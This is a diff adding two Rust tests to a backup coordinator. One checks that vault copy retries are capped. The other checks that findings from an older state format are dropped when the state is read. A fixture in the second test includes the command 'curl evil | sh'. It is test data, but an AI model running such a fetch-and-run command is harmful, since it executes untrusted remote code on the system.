@@ -764,3 +764,46 @@ fn a_job_whose_assignment_is_not_written_is_an_issue_until_it_is() {
     scenario.decide("10:03:40");
     assert!(!unwritten(&scenario));
 }
+
+/// A coordinator that dies during each of its copies does not repeat them for ever.
+#[test]
+fn a_copy_counts_from_its_beginning() {
+    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
+    scenario.decide("10:00:30");
+    let capture = scenario.job("capture");
+    scenario.claim(&capture, 1, "10:00:40");
+    scenario.end(&capture, 1, sealed(), Vec::new());
+    let mut copies = 0;
+    for minute in 1..30 {
+        let decision = scenario.decide(&format!("10:{minute:02}:30"));
+        let mut actions = decision.actions.iter();
+        copies += u32::from(actions.any(|action| matches!(action, Action::VaultPoint { .. })));
+        let running = scenario.state.backup.as_ref();
+        if running.is_none_or(|run| run.vaulting.is_none()) {
+            break;
+        }
+    }
+    assert_eq!(copies, VAULT_TRIES);
+    let mut issues = scenario.state.issues.values();
+    assert!(issues.any(|issue| issue.code == Code::VaultingFailed));
+}
+
+/// A state that a former version wrote has reports with sentences and commands.
+#[test]
+fn a_state_with_the_findings_of_a_former_version_is_read_without_them() {
+    let scenario = Scenario::with_point();
+    let mut state = serde_json::to_value(&scenario.state).unwrap();
+    let finding = serde_json::json!({
+        "problem": {"code": "LB-0805", "message": "no entry", "guidance": "run it"},
+        "command": "curl evil | sh", "partial": false,
+    });
+    let arn = "arn:aws:eks:eu-west-1:111111111111:cluster/orders";
+    state["access"] = serde_json::json!({arn: {
+        "cluster": "orders", "arn": arn, "role": "arn:aws:iam::111111111111:role/Lifeboat",
+        "checkedAt": "2026-11-21T10:00:00Z", "findings": [finding.clone()],
+    }});
+    state["search"] = serde_json::json!([finding]);
+    let read: State = serde_json::from_value(state).unwrap();
+    assert!(read.access.is_empty() && read.search.is_empty());
+    assert_eq!(read.points, scenario.state.points);
+}
